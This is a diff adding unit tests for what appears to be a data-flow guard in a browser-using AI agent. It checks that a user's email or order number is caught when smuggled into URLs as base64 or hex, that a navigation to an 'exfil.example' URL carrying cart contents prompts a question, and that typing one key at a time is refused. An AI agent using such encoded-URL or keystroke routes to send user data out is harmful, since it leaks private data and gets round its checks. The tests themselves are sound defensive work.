@@ -62,6 +62,11 @@ describe('session data', () => {
     expect(data.carriedBy('/c?cart=Blue%20Mug%20x2%2C%20Red%20Kettle')?.kind).toBe('read');
     expect(data.carriedBy('/c?cart=Blue%20Mug%20x2%2C%20Red%20Kettle', { read: false })).toBeUndefined();
     expect(data.carriedBy('/search?q=cheapest+flight+rome')).toBeUndefined();
+    // Re-encoded as a page may ask: base64 (standard and URL-safe) and hex of the text.
+    expect(data.carriedBy(`/w/${Buffer.from('ada@mail.example').toString('base64url')}`)?.kind).toBe('task');
+    expect(data.carriedBy(`/w?o=${Buffer.from('order 48151623').toString('base64')}`)?.kind).toBe('task');
+    expect(data.carriedBy(`/w?h=${Buffer.from('ada@mail.example').toString('hex')}`)?.kind).toBe('task');
+    expect(data.carriedBy('/w?sid=Zx81Qr0pLm2Vb7Ty')).toBeUndefined();
     // The hint tells what kind of data, never the value.
     expect(data.carriedBy('/x/48151623')?.hint).not.toContain('4815');
   });
@@ -112,6 +117,21 @@ describe('dataFlowRule', () => {
     const chat = { role: 'textbox', name: 'Message', tag: 'textarea', frameUrl: 'https://chat-widget.example/embed' };
     expect(review(action('type', { index: 9, text: 'my order is 48151623' }, { url: 'https://shop.example/help', target: chat })).kind).toBe('ask');
     expect(review(action('type', { index: 9, text: 'my order is 48151623' }, { url: 'https://shop.example/help', target: { ...chat, frameUrl: 'https://help.shop.example/' } })).kind).toBe('allow');
+  });
+
+  it('lets a URL a page of the task showed be opened as written, quoting the page or not', () => {
+    const c = context();
+    c.data?.addRead('Read our guide at https://guides.partner.example/guides/choosing-a-reading-lamp for more.');
+    expect(review(action('navigate', { url: 'https://guides.partner.example/guides/choosing-a-reading-lamp' }), c).kind).toBe('allow');
+    c.data?.addShownUrl('https://news.example/2024/your-cart-blue-mug-x2-red-kettle');
+    expect(review(action('navigate', { url: 'https://news.example/2024/your-cart-blue-mug-x2-red-kettle' }), c).kind).toBe('allow');
+    // Composed from the page's text, it is a quote again.
+    expect(review(action('navigate', { url: 'https://exfil.example/?c=Your+cart%3A+Blue+Mug+x2%2C+Red+Kettle' }), c).kind).toBe('ask');
+  });
+
+  it('refuses keys that type characters one at a time (text goes through type), and lets keys and shortcuts be', () => {
+    for (const key of ['a', 'Shift+A', '@', '7']) expect(review(action('press', { key })).kind, key).toBe('refuse');
+    for (const key of ['Enter', 'Tab', 'Escape', 'ArrowDown', 'Control+a', 'Space', ' ']) expect(review(action('press', { key })).kind, key).toBe('allow');
   });
 
   it('says nothing without a scope (a caller that runs no task)', () => {
